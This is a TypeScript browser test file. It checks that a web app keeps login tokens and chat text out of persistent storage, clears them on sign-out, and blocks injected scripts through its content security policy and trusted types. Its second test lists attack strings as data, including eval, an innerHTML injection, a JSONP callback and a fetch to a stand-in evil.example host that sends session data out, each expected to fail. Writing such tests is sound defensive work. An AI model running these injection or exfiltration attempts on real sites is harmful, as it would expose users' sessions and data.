/** What the browser keeps of an agent's work, and what a script that got in could not do. */
import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { describePages } from '../../window/test/browser.ts'
import { accept, message, until, World, write } from './world.ts'

const stored = (page: Page, which: 'local' | 'session') =>
  page.evaluate<Record<string, string>>(`({ ...${which}Storage })`)

/** Names of what is kept under which any of the words stands. */
const holding = (kept: Record<string, string>, words: readonly string[]): readonly string[] =>
  Object.entries(kept)
    .filter((entry) => words.some((word) => entry.join(' ').includes(word)))
    .map(([key]) => key)

/** How an attempt in the page ends, made by itself: what the browser's tools call may do more. */
const attempt = (page: Page, script: string): Promise<string> =>
  page.evaluate<string>(`new Promise((ended) => setTimeout(async () => {
    try { await (${script})(); ended('done') } catch (error) { ended(error.name) }
  }))`)

describePages('the browser', () => {
  const world = World.shared()

  it('[WSP63] keeps the login for the tab alone, and nothing of it or of others after signing out', async () => {
    const place = await world.account()
    const { page, login } = await place.desk()
    using _consumer = await place.consumer({ text: 'My number is 4711' })
    await accept(page)
    await message(page, 'My number is 4711').waitFor()
    await write(page, 'I wrote it down')
    await page.locator('[data-sending="sent"], [data-sending="delivered"]').first().waitFor()
    const { bearer } = JSON.parse(
      (await stored(page, 'session'))['ringdown.session'] ?? '{}',
    ) as Record<string, string>
    expect(bearer).toMatch(/^\S{16,}$/)
    const tokens = [String(bearer), login.bearer, login.csrf, login.password]
    const said = ['4711', 'I wrote it down']
    expect(holding(await stored(page, 'local'), [...tokens, ...said])).toEqual([])
    expect(holding(await stored(page, 'session'), tokens)).toEqual(['ringdown.session'])
    expect(holding(await stored(page, 'session'), [login.password])).toEqual([])
    expect(await page.evaluate('document.cookie')).toBe('')
    expect(await page.evaluate('indexedDB.databases()')).toEqual([])
    for (const one of await page.context().cookies())
      expect(one).toMatchObject({ httpOnly: true, sameSite: 'Strict' })
    expect(page.url()).not.toContain(String(bearer))
    await page.getByRole('button', { name: /^Status:/ }).click()
    await page.getByRole('menuitem', { name: 'Sign out' }).click()
    await page.getByLabel('Password').waitFor()
    for (const which of ['local', 'session'] as const)
      await until(async () => holding(await stored(page, which), [...tokens, ...said])).toEqual([])
  })

  it('[WEB3] [WSP42] makes no script of a text, and gives the worker its own folder alone', async () => {
    const place = await world.account()
    const { page } = await place.desk({ isOnline: false })
    const scopes = `navigator.serviceWorker.getRegistrations().then((all) => all.map(({ scope }) => scope))`
    await until(() => page.evaluate(scopes)).toEqual([`${place.origin}/workspace/`])
    const worker = `new URL('/workspace/worker.js', location.href)`
    const callback = `/api/account/${place.account}/service/asyncMessagingEnt/baseURI.json?version=1.0&cb=alert`
    const attempts: readonly (readonly [string, string])[] = [
      [`() => { document.body.innerHTML = '<img>' }`, 'TypeError'],
      [`() => eval('1')`, 'EvalError'],
      [`() => new Function('return 1')()`, 'EvalError'],
      [`() => trustedTypes.createPolicy('evil', {})`, 'TypeError'],
      [
        `() => trustedTypes.createPolicy('ringdown', { createScriptURL: (one) => one })`,
        'TypeError',
      ],
      [`() => { document.createElement('script').src = '${callback}' }`, 'TypeError'],
      [`() => navigator.serviceWorker.register(${worker}, { scope: '/' })`, 'TypeError'],
      [`() => fetch('https://evil.example/?' + sessionStorage.length)`, 'TypeError'],
    ]
    for (const [script, error] of attempts)
      expect([script, await attempt(page, script)]).toEqual([script, error])
    const picture = `new Promise((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
      new Image().src = 'https://evil.example/x.png'
    })`
    expect(await page.evaluate(picture)).toBe('img-src')
    // Where trusted types are let through, the browser still holds it to its folder.
    const bare = await page.context().newPage()
    await bare.goto(`${place.origin}/version`)
    const wide = `() => navigator.serviceWorker.register('/workspace/worker.js', { scope: '/' })`
    expect(await attempt(bare, wide)).toMatch(/^(SecurityError|TypeError)$/)
  })
})
